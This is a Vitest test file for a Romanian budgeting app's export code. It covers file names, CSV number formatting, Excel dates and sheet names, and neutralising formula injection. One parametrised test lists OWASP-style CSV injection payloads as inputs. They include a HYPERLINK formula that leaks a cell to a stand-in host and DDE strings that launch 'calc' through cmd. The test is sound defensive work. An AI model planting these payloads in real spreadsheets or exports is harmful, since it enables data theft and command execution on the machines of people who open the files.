import { describe, expect, it } from 'vitest';
import { csvDocument, csvNumberText, csvTextCell, excelDateFormat, excelSerialDate, excelSheetName, exportFileName, exportProgress } from './export';

describe('export', () => {
  it('names the file: the chosen name, else the report title, else the default', () => {
    expect(exportFileName({ format: 'excel' }, '2025-06-17')).toBe('buget-tranzactii-2025-06-17.xlsx');
    expect(exportFileName({ format: 'csv', filename: 'Raport Iunie ăîș.csv' }, '2025-06-17')).toBe('raport-iunie-ais.csv');
    expect(exportFileName({ format: 'json', filename: '***' }, '2025-06-17')).toBe('buget-tranzactii-2025-06-17.json');
    expect(exportFileName({ format: 'csv', title: 'Cheltuieli martie 2026' }, '2025-06-17')).toBe('cheltuieli-martie-2026.csv');
    expect(exportFileName({ format: 'csv', filename: 'buget', title: 'Cheltuieli' }, '2025-06-17')).toBe('buget.csv');
  });
  it('reports progress in percent', () => {
    expect(exportProgress(1, 3)).toBe(33);
    expect(exportProgress(5, 3)).toBe(100);
    expect(exportProgress(0, 0)).toBe(100);
  });
  it('writes CSV numbers with a decimal comma and no thousands separators', () => {
    expect(csvNumberText(1234.56)).toBe('1234,56');
    expect(csvNumberText(1234.5)).toBe('1234,50');
    expect(csvNumberText(1200)).toBe('1200');
    expect(csvNumberText(-89.99)).toBe('-89,99');
    expect(csvNumberText(1_000_000)).toBe('1000000');
  });
  // Issue 24 point 8: OWASP's CSV injection payloads, each kept as text.
  it.each([
    ['=HYPERLINK("https://rau.example/?d="&A2,"Click")', `"'=HYPERLINK(""https://rau.example/?d=""&A2,""Click"")"`],
    ['=1+1', `"'=1+1"`],
    ['+1+1', `"'+1+1"`],
    ["-2+3+cmd|' /C calc'!A0", `"'-2+3+cmd|' /C calc'!A0"`],
    ["@SUM(1+1)*cmd|' /C calc'!A0", `"'@SUM(1+1)*cmd|' /C calc'!A0"`],
    ['\t=1+1', `"'\t=1+1"`],
    ['\r=1+1', `"'\r=1+1"`],
    ['=1+1";=1+1', `"'=1+1"";=1+1"`],
    ['-12,50', `"'-12,50"`],
    ['a;=1+1', '"a;=1+1"'],
    ['a,=1+1', '"a,=1+1"'],
  ])('neutralises a text cell a spreadsheet would run as a formula: %j', (text, cell) => {
    expect(csvTextCell(text)).toBe(cell);
  });
  it('leaves other text as it is, quoting only what holds a separator, a quote or a line break', () => {
    expect(csvTextCell('Supermarket')).toBe('Supermarket');
    expect(csvTextCell('')).toBe('');
    expect(csvTextCell('1=1 @ambele +5')).toBe('1=1 @ambele +5');
    expect(csvTextCell('piață; "mare"')).toBe('"piață; ""mare"""');
    expect(csvTextCell('rând\nnou')).toBe('"rând\nnou"');
    expect(csvTextCell("'citat")).toBe("'citat");
  });
  it('gives Excel serial dates and date formats', () => {
    expect(excelSerialDate('1900-03-01')).toBe(61);
    expect(excelSerialDate('2026-03-01')).toBe(46082);
    expect(() => excelSerialDate('2026-02-30')).toThrow(RangeError);
    expect(excelDateFormat('DD/MM/YYYY')).toBe('dd/mm/yyyy');
    expect(excelDateFormat('YYYY-MM-DD')).toBe('yyyy-mm-dd');
  });
  it('turns a title into a sheet name Excel accepts', () => {
    expect(excelSheetName('Raport: martie/aprilie [2026]', 'Tranzacții')).toBe('Raport martie aprilie 2026');
    expect(excelSheetName('Un titlu foarte lung pentru o foaie de calcul', 'Tranzacții')).toBe('Un titlu foarte lung pentru o f');
    expect(excelSheetName("'***'", 'Tranzacții')).toBe('Tranzacții');
    expect(excelSheetName(undefined, 'Tranzacții')).toBe('Tranzacții');
  });

  it('writes a small CSV as the export does: BOM, semicolons, CRLF, numbers bare, text guarded, null empty', () => {
    expect(csvDocument(['Luna', 'Venituri'], [['ianuarie 2026', 1234.5], ['=SUM(A1)', null]])).toBe('\uFEFFLuna;Venituri\r\nianuarie 2026;1234,50\r\n"\'=SUM(A1)";\r\n');
  });
});
